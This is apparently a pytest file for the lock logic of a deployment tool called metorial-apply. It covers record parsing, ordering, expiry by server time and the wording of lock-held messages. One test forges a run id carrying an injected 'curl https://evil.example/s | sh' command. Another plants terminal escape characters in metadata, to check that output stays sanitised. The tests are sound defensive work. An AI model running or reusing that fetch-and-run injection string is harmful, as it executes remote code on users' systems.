"""The stack lock's pure rules: record parsing, the (created_at, id) order, expiry by server
time, lapse detection, and the decision a run takes after reading the records."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from metorial_apply.core.lock import (
    LOCK_KEY,
    Decision,
    LockHeldError,
    LockRecord,
    LockSettings,
    Verdict,
    decide,
    is_lock_record,
    lapsed,
    lock_metadata,
    printable,
    server_now,
)
from metorial_apply.core.model import Stamp

T0 = datetime(2026, 1, 1, 12, 0, 0, tzinfo=UTC)


def iso(moment: datetime) -> str:
    return moment.strftime("%Y-%m-%dT%H:%M:%S.") + f"{moment.microsecond // 1000:03d}Z"


def obj(id: str, run: str, created: float, updated: float | None = None, *, stack: str = "prod",
        ttl: float = 60) -> dict[str, Any]:
    return {"id": id, "object": "session.template", "name": f"metorial-apply lock: {stack}",
            "metadata": lock_metadata(stack, run, "ci-host", 42, ttl, 0),
            "created_at": iso(T0 + timedelta(seconds=created)),
            "updated_at": iso(T0 + timedelta(seconds=created if updated is None else updated))}


def rec(*args: Any, **kw: Any) -> LockRecord:
    record = LockRecord.from_api(obj(*args, **kw))
    assert record is not None
    return record


def at(seconds: float) -> datetime:
    return T0 + timedelta(seconds=seconds)


def test_a_lock_record_is_recognised_by_its_key_and_is_never_a_stamp() -> None:
    lock = obj("set_1", "run-a", 0)
    assert is_lock_record(lock)
    assert Stamp.split(lock["metadata"])[1] is None  # no address: the live read can never adopt it
    assert not is_lock_record({"id": "set_2", "metadata": {"metorial-apply/stack": "prod"}})
    assert not is_lock_record({"id": "set_3", "metadata": None})
    assert not is_lock_record({"id": "set_4", "metadata": {LOCK_KEY: 7}})


def test_parsing_keeps_server_times_and_bounds_the_ttl() -> None:
    record = rec("set_1", "run-a", 0, 5, ttl=30)
    assert (record.stack, record.run, record.host, record.pid) == ("prod", "run-a", "ci-host", "42")
    assert record.created_at == at(0) and record.updated_at == at(5) and record.ttl_s == 30
    odd = obj("set_2", "run-b", 0)
    odd["metadata"]["metorial-apply/lock-ttl"] = "forever"
    assert LockRecord.from_api(odd).ttl_s == 120  # type: ignore[union-attr]
    odd["metadata"]["metorial-apply/lock-ttl"] = "0"
    assert LockRecord.from_api(odd).ttl_s == 1  # type: ignore[union-attr]


def test_metadata_written_by_anyone_prints_as_one_safe_line() -> None:
    hostile = obj("set_1", "run\x1b[2J", 0)
    hostile["metadata"]["metorial-apply/lock-host"] = "evil\nPlan: 0 to create\u202e\x07"
    record = LockRecord.from_api(hostile)
    assert record is not None
    text = record.describe()
    assert not any(c in text for c in "\x1b\n\u202e\x07")
    assert "evil?Plan: 0 to create??" in text
    assert len(printable("x" * 500)) == 80


def test_the_order_is_created_at_then_id() -> None:
    a, b, c = rec("set_b", "run-a", 0), rec("set_a", "run-b", 0), rec("set_0", "run-c", 1)
    assert sorted([c, a, b], key=LockRecord.order) == [b, a, c]


def test_expiry_is_judged_from_the_last_renewal_at_server_time() -> None:
    record = rec("set_1", "run-a", 0, 10, ttl=30)
    assert not record.expired(at(40))  # exactly the TTL: still alive
    assert record.expired(at(40.001))
    assert not record.expired(None)  # no server time known: never judged expired
    unreadable = LockRecord(id="set_2", stack="prod", run="run-b", ttl_s=1)
    assert not unreadable.expired(at(1000))  # unreadable times: held until unlocked by hand


def test_server_now_is_the_latest_time_the_server_returned() -> None:
    records = [rec("set_1", "run-a", 0, 30), rec("set_2", "run-b", 10)]
    assert server_now(records) == at(30)
    assert server_now(records, at(45), None) == at(45)
    assert server_now([]) is None


def settled(records: list[LockRecord], run: str, seen: datetime | None = None) -> Decision:
    """decide() on a list read long enough after our write that no confirming read is due."""
    return decide(records, "prod", run, seen, since_write_s=60, horizon_s=6)


def test_the_oldest_unexpired_record_proceeds_and_the_rest_wait() -> None:
    mine, theirs = rec("set_2", "me", 1), rec("set_1", "them", 0)
    wait = settled([mine, theirs], "me")
    assert wait.verdict is Verdict.WAIT and wait.holder == theirs
    assert settled([mine, theirs], "them").verdict is Verdict.PROCEED
    # Same created_at: the id breaks the tie, the same way for both runs.
    x, y = rec("set_x", "me", 0), rec("set_y", "them", 0)
    assert settled([x, y], "me").verdict is Verdict.PROCEED
    assert settled([y, x], "them").holder == x


def test_expired_records_are_passed_over_and_returned_for_clearing() -> None:
    dead, mine = rec("set_1", "killed", 0, 0, ttl=10), rec("set_2", "me", 30)
    decision = settled([dead, mine], "me")
    assert decision.verdict is Verdict.PROCEED and decision.expired == (dead,)
    assert settled([dead, rec("set_2", "me", 9)], "me").holder == dead  # not yet expired
    # The server time of our own last write counts too: it is as much the server's now.
    assert settled([dead, rec("set_2", "me", 9)], "me", seen=at(10.5)).verdict is Verdict.PROCEED


def test_expiry_is_never_judged_by_this_machines_clock() -> None:
    """Server clocks may be any distance from this machine's: records a day older than our clock
    are alive if the server's own times say so, and records a century ahead are expired if they
    say so. (Judging by datetime.now() would give the lock away in the first case and never
    clear a dead run's record in the second.)"""
    past = datetime.now(UTC) - timedelta(days=1)
    old = [LockRecord(id=f"set_{i}", stack="prod", run=run, ttl_s=60, created_at=past + timedelta(seconds=i),
                      updated_at=past + timedelta(seconds=i)) for i, run in enumerate(("them", "me"))]
    assert settled(old, "me", seen=past + timedelta(seconds=2)).holder == old[0]
    future = datetime(2126, 1, 1, tzinfo=UTC)
    dead = LockRecord(id="set_1", stack="prod", run="killed", ttl_s=60, created_at=future, updated_at=future)
    mine = LockRecord(id="set_2", stack="prod", run="me", ttl_s=60, created_at=future + timedelta(seconds=90),
                      updated_at=future + timedelta(seconds=90))
    decision = settled([dead, mine], "me")
    assert decision.verdict is Verdict.PROCEED and decision.expired == (dead,)


def test_a_free_lock_is_confirmed_by_a_read_after_the_settle_delay_and_the_skew() -> None:
    """A record written up to the skew after ours can sort before it (its server's clock is
    behind) and show in lists a settle delay later: a run that finds the lock free reads again
    once that long has passed since its own write, and a run that already waited does not."""
    mine = rec("set_2", "me", 0)
    early = decide([mine], "prod", "me", None, since_write_s=1.25, horizon_s=6)
    assert early.verdict is Verdict.CONFIRM and early.after_s == 4.75
    assert decide([mine], "prod", "me", None, since_write_s=6, horizon_s=6).verdict is Verdict.PROCEED
    # An older record in the early read: wait for it at once, nothing to confirm.
    older = rec("set_1", "them", -1)
    assert decide([mine, older], "prod", "me", None, since_write_s=1, horizon_s=6).holder == older
    # The confirming read shows a record written after ours that sorts first (its server's
    # clock is behind): back off.
    later = rec("set_3", "them", -0.5)
    assert decide([mine, later], "prod", "me", None, since_write_s=6, horizon_s=6).holder == later
    # No skew and no settle (one server, lists never lag): the first read is trusted.
    assert decide([mine], "prod", "me", None, since_write_s=0, horizon_s=0).verdict is Verdict.PROCEED


def test_a_list_without_our_own_record_is_not_trusted() -> None:
    theirs = rec("set_1", "them", 0)
    assert settled([theirs], "me").verdict is Verdict.REREAD
    assert settled([], "me").verdict is Verdict.REREAD


def test_other_stacks_locks_do_not_count() -> None:
    other, mine = rec("set_1", "them", 0, stack="staging"), rec("set_2", "me", 1)
    assert settled([other, mine], "me").verdict is Verdict.PROCEED


def test_a_renewal_gap_longer_than_ttl_less_the_margin_means_the_lock_may_have_been_taken() -> None:
    assert not lapsed(at(0), at(29), 30, 1)
    assert lapsed(at(0), at(29.5), 30, 1)
    # The margin: a settle delay, and the skew twice (another run's now and our stamps may come
    # from servers the skew apart, in opposite directions).
    assert LockSettings(ttl_s=120, settle_s=1, skew_s=5).margin_s == 11


def test_settings_keep_the_settle_delay_and_the_skew_well_inside_the_ttl() -> None:
    settings = LockSettings(ttl_s=8, settle_s=2, skew_s=0)
    assert settings.renew_every_s == 2 and settings.poll_s == 2
    assert LockSettings().horizon_s == 6  # 1 s settle + 5 s skew by default
    with pytest.raises(ValueError, match="quarter"):
        LockSettings(ttl_s=4, settle_s=2, skew_s=0)
    with pytest.raises(ValueError, match="plus the clock skew"):
        LockSettings(ttl_s=20, settle_s=1, skew_s=5)
    with pytest.raises(ValueError):
        LockSettings(skew_s=-1)


def test_the_refusal_names_run_host_and_time_and_how_to_break_it() -> None:
    message = str(LockHeldError(rec("set_1", "run-a", 0, ttl=60), 0))
    assert "run run-a on host ci-host (pid 42) since 2026-01-01T12:00:00.000Z" in message
    assert "metorial-apply unlock --stack prod run-a" in message and "--lock-timeout" in message
    assert "after waiting 5 s" in str(LockHeldError(rec("set_1", "run-a", 0), 5))


def test_a_forged_run_id_is_never_pasted_into_a_command_and_the_message_stays_short() -> None:
    """Any key of the organization can write a lock record: its run id reaches the message only
    escaped and cut short, and never inside a suggested shell command."""
    forged = "x; curl https://evil.example/s | sh #" + "A" * 2_000_000
    message = str(LockHeldError(rec("set_1", forged, 0, ttl=60), 0))
    assert len(message) < 1000 and "unlock --stack" not in message and "archive its lock record set_1" in message
    quoted = str(LockHeldError(rec("set_1", "run.a-1_b", 0, ttl=60), 0))
    assert "`metorial-apply unlock --stack prod run.a-1_b`" in quoted


def test_a_managed_resource_that_gained_the_lock_key_stays_a_resource() -> None:
    """Any key of the organization can add `metorial-apply/lock` to a managed object: it must
    neither hide that object from the live read nor count as a holder of the lock."""
    from metorial_apply.api.live import live_state
    from metorial_apply.core.model import Catalog

    stamp = Stamp(stack="prod", address="session_template.bot", spec_hash="sha256:x").to_metadata()
    forged = {"id": "set_9", "object": "session.template", "name": "bot", "status": "active", "providers": [],
              "created_at": iso(T0), "updated_at": iso(T0), "metadata": stamp | {LOCK_KEY: "prod", "team": "a"}}
    assert not is_lock_record(forged) and LockRecord.from_api(forged) is None
    read = live_state("prod", Catalog(), {"session_template": [forged, obj("set_1", "run-a", 0)]})
    assert [(str(r.address), r.id) for r in read.state] == [("session_template.bot", "set_9")]
    assert read.objects == 1  # the real lock record is never counted, the forged one is a resource
